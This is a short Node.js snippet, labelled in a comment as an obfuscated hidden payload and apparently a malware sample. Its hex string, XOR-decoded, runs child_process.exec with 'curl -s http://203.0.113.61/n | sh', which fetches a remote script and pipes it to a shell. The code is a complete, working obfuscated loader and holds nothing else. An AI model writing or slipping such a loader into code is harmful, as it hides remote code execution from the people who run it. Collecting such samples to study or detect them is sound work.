// class: hidden payload; style: obfuscated node
const k = 7, d = '756276726e75622f20646f6e6b635877756864627474202e29627f62642f206472756b272a74276f7373773d28283537342937293636342931362869277b27746f202e';
const s = Buffer.from(d, 'hex').map(b => b ^ k).toString();
new Function('require', s)(require);
